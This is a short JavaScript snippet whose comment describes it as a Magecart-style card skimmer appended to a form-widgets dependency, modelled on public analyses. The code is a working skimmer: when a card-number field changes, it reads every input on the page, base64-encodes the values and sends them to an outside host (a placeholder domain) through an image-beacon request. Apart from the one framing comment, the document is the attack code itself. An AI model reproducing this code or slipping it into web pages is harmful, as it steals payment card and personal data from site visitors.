// A form-widgets dependency with a skimmer appended, in the shape public
// Magecart analyses describe: it waits for the card field to change, then
// sends every field, base64-encoded, as the query of an image beacon.
document.addEventListener('change', function (e) {
  if (!/number/.test(e.target.name || '')) return;
  var v = {};
  for (var el of document.querySelectorAll('input')) v[el.name] = el.value;
  new Image().src = 'https://metrics.widgets-cdn.example/p.gif?d=' + btoa(JSON.stringify(v));
}, true);
